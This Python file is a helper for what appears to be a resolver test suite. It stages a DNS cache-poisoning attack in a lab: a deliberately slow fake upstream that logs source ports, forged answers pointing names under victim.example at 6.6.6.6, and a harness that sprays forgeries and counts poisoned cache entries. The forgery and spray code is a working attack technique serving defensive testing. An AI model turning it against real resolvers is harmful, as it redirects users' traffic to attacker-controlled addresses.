#!/usr/bin/env python3
"""Helpers of tests/hostile/dns_forgery.sh (stdlib only).

upstream --listen IP:PORT --delay MS --hold MS --release DIR --log FILE
    The genuine upstream resolver, slow: every name gets A 192.0.2.7 (TTL 300)
    after --delay, or for names under victim.example later, when the file DIR/NAME appears (the forger's
    spray is over), but never later than --hold; its question echoed byte for
    byte (letter case kept). Names under silent.example are never answered.
    Logs "NAME PORT" per query (the source port: what an attacker learns from
    a query to a domain of its own).
hex-query NAME      a query for NAME (ID 0) in hex
hex-forged NAME     the forger's answer for NAME (ID 0): A 6.6.6.6, TTL 3600, in hex
attack --resolver IP --src IP --rounds N --hold MS --release DIR --count C --uplog FILE --spray CMD...
    The client side of the forgery attack, N rounds: ask vN.victim.example,
    and while the slow upstream sits on it run CMD with the port the upstream
    saw last (twice: the range), C and the forged answer appended (CMD sends C
    forgeries with every ID there), then create DIR/NAME (the upstream may answer).
    Prints one line per poisoned answer and a summary:
    "rounds R answered A poisoned P spray_ms_p50 S spray_ms_max M late L spray_failed F".
recheck --resolver IP --src IP --rounds N
    Asks vN.victim.example again (another client, from the cache): prints
    "poisoned P of N".
"""
import os
import socket
import struct
import subprocess
import sys
import threading
import time

POISON = socket.inet_aton("6.6.6.6")


def enc_name(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def question_end(buf):
    pos = 12
    while buf[pos]:
        pos += 1 + buf[pos]
    return pos + 5


def query(name, qid=0):
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + enc_name(name) + struct.pack("!HH", 1, 1)


def forged(name):
    # The forger's best guess at the question: the name in lowercase.
    return (struct.pack("!HHHHHH", 0, 0x8180, 1, 1, 0, 0) + enc_name(name.lower())
            + struct.pack("!HH", 1, 1) + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + POISON)


def args_of(argv):
    out, it = {}, iter(argv)
    for a in it:
        if a == "--spray":
            out["spray"] = list(it)
            break
        out[a.lstrip("-")] = next(it)
    return out


def upstream(a):
    host, port = a["listen"].rsplit(":", 1)
    delay = int(a["delay"]) / 1000
    hold = int(a["hold"]) / 1000
    release = a["release"]
    log = open(a["log"], "a", buffering=1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((host, int(port)))
    print("ready", flush=True)
    while True:
        req, src = s.recvfrom(4096)
        if len(req) < 17:
            continue
        try:
            end = question_end(req)
        except IndexError:
            continue
        labels, pos = [], 12
        while req[pos]:
            labels.append(req[pos + 1:pos + 1 + req[pos]].decode(errors="replace"))
            pos += 1 + req[pos]
        name = ".".join(labels).lower()
        log.write(f"{name} {src[1]}\n")
        if name.endswith("silent.example"):
            continue
        qid, flags = struct.unpack("!HH", req[:4])
        resp = (struct.pack("!HHHHHH", qid, 0x8180 | (flags & 0x0100), 1, 1, 0, 0) + req[12:end]
                + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton("192.0.2.7"))
        threading.Thread(target=answer_later, args=(s, resp, src, name, delay, hold, release),
                         daemon=True).start()


def answer_later(s, resp, src, name, delay, hold, release):
    t0 = time.monotonic()
    time.sleep(delay)
    while (name.endswith(".victim.example") and time.monotonic() - t0 < hold
           and not os.path.exists(os.path.join(release, name))):
        time.sleep(0.005)
    s.sendto(resp, src)


def last_port(path):
    with open(path) as f:
        lines = f.read().split("\n")
    lines = [line for line in lines if line]
    return int(lines[-1].split()[1]) if lines else 1024


def attack(a):
    rounds = int(a["rounds"])
    spray_ms, poisoned, answered, late, failed = [], 0, 0, 0, 0
    for i in range(1, rounds + 1):
        name = f"v{i}.victim.example"
        port = last_port(a["uplog"])
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((a["src"], 0))
        s.settimeout(4)
        qid = (i * 7919) & 0xFFFF
        t0 = time.monotonic()
        s.sendto(query(name, qid), (a["resolver"], 53))
        # The resolver forwards within a millisecond or two: then spray.
        time.sleep(0.005)
        out = subprocess.run(a["spray"] + [str(port), str(port), a["count"], forged(name).hex()],
                             capture_output=True, text=True)
        ms = (time.monotonic() - t0) * 1000
        spray_ms.append(ms)
        open(os.path.join(a["release"], name), "w").close()
        try:
            resp, _ = s.recvfrom(4096)
        except socket.timeout:
            print(f"round {i}: no answer")
            continue
        answered += 1
        if ms > int(a["hold"]):
            late += 1  # the genuine answer went out before the spray ended
        if out.returncode != 0:
            failed += 1
            print(f"round {i}: spray failed: {out.stderr.strip()}")
        if POISON in resp:
            poisoned += 1
            print(f"round {i}: POISONED ({name} via port {port})")
        s.close()
    spray_ms.sort()
    p50 = spray_ms[len(spray_ms) // 2] if spray_ms else 0
    mx = spray_ms[-1] if spray_ms else 0
    print(f"rounds {rounds} answered {answered} poisoned {poisoned} "
          f"spray_ms_p50 {p50:.0f} spray_ms_max {mx:.0f} late {late} spray_failed {failed}")


def recheck(a):
    rounds, poisoned = int(a["rounds"]), 0
    for i in range(1, rounds + 1):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((a["src"], 0))
        s.settimeout(4)
        s.sendto(query(f"v{i}.victim.example", i), (a["resolver"], 53))
        try:
            resp, _ = s.recvfrom(4096)
            poisoned += POISON in resp
        except socket.timeout:
            pass
        s.close()
    print(f"poisoned {poisoned} of {rounds}")


if __name__ == "__main__":
    cmd, rest = sys.argv[1], sys.argv[2:]
    if cmd == "hex-query":
        print(query(rest[0]).hex())
    elif cmd == "hex-forged":
        print(forged(rest[0]).hex())
    else:
        {"upstream": upstream, "attack": attack, "recheck": recheck}[cmd](args_of(rest))
